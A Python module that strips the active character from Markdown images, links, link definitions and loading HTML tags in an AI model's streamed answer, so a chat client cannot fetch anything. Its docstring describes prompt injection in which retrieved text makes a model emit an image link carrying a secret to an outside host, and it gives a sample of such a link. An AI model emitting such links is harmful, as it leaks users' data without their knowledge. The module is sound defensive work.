"""A model's answer without anything that a Markdown or HTML viewer would fetch or link.

Retrieved text can make a model write ``![x](https://elsewhere/?secret)``, and
a chat client that renders it sends the secret without a click.  The page here
shows text only; other clients of the API may not.  So images, inline links,
link definitions and the tags that load or link something lose the one
character that makes them such; the address stays readable.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from typing import Final

_TAGS: Final = (
    "a|area|applet|audio|base|body|button|embed|form|frame|frameset|iframe|image|img|input|link|math|meta"
    "|object|picture|script|source|style|svg|track|video"
)
_IMAGE = re.compile(r"!\[")
_INLINE = re.compile(r"\]\(")
_DEFINITION = re.compile(r"(?<![^\n])([ ]{0,3}\[[^\]\n]{1,80}\]):")
_TAG = re.compile(rf"<(?=(?:{_TAGS})[\s/>]|[a-z][a-z0-9+.-]{{1,20}}:)", re.IGNORECASE)
_TAG_AT_END = re.compile(rf"<(?=(?:{_TAGS})\Z)", re.IGNORECASE)
# The end of a piece that could become one of them with what comes next.
_BEGUN = re.compile(
    r"(?:!|\]|<[a-z][a-z0-9+.-]{0,20}|<|(?<![^\n])[ ]{0,3}\[[^\]\n]{0,80}\]?|(?<![^\n])[ ]{1,3})\Z",
    re.IGNORECASE,
)


def without_links(text: str) -> str:
    """Return the text with its images, links and loading tags taken apart; nothing is left out.

    >>> without_links("see ![x](http://e/?q) and <img src=y> [1](http://e)")
    'see ! [x] (http://e/?q) and ‹img src=y> [1] (http://e)'
    """
    return _TAG_AT_END.sub("‹", _taken_apart(text))


def _taken_apart(text: str) -> str:
    """The same for a text that goes on, but not with what would complete a tag's name."""
    text = _INLINE.sub("] (", _IMAGE.sub("! [", text))
    return _TAG.sub("‹", _DEFINITION.sub(r"\1 :", text))


class LinkFilter:
    """:func:`without_links` over a stream, whatever its pieces; ``flush`` gives what was held back."""

    def __init__(self) -> None:
        self._held = ""
        self._last = ""  # the character before what is held: whether a line begins there

    def feed(self, piece: str) -> str:
        """Return what can no longer become a link."""
        self._held += piece
        begun = _BEGUN.search(self._last + self._held)
        keep = 0 if begun is None else len(self._last + self._held) - max(begun.start(), len(self._last))
        return self._released(len(self._held) - keep)

    def flush(self) -> str:
        """Return the rest once nothing more comes."""
        return self._released(len(self._held), without_links)

    def _released(self, size: int, apart: Callable[[str], str] = _taken_apart) -> str:
        ready, self._held = self._held[:size], self._held[size:]
        if not ready:
            return ""
        # A blank stands for "not the beginning of a line".
        before = self._last if self._last in ("", "\n") else "."
        shown = apart(before + ready)[len(before) :]
        self._last = ready[-1]
        return shown
